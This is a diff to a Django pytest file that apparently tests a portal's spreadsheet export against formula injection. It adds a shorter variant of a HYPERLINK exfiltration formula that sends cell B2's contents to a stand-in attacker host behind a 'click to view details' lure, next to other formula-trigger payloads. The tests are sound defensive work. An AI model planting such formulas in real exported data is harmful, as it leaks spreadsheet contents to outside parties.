@@ -43,6 +43,8 @@ pytestmark = pytest.mark.django_db
 
 LINK = '=HYPERLINK("//x.y")'
 EXFILTRATE = '=HYPERLINK("http://attacker.invalid/?d="&B2,"点击查看详情")'
+# The same attack within a 50-character field (PostgreSQL enforces the length).
+EXFILTRATE_50 = '=HYPERLINK("http://a.invalid/?d="&B2,"点击查看详情")'
 HOSTILE = (LINK, EXFILTRATE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
 # The formulas the portal writes itself (sheet, coordinate): none.
@@ -70,7 +72,7 @@ def hostile_hall(db):
         ServiceItemFactory(
             code="\t=1",
             name="-2+3",
-            category=EXFILTRATE,
+            category=EXFILTRATE_50,
             required_materials=EXFILTRATE,
             handling=ServiceItem.Handling.TIME_LIMITED,
             promised_working_days=5,
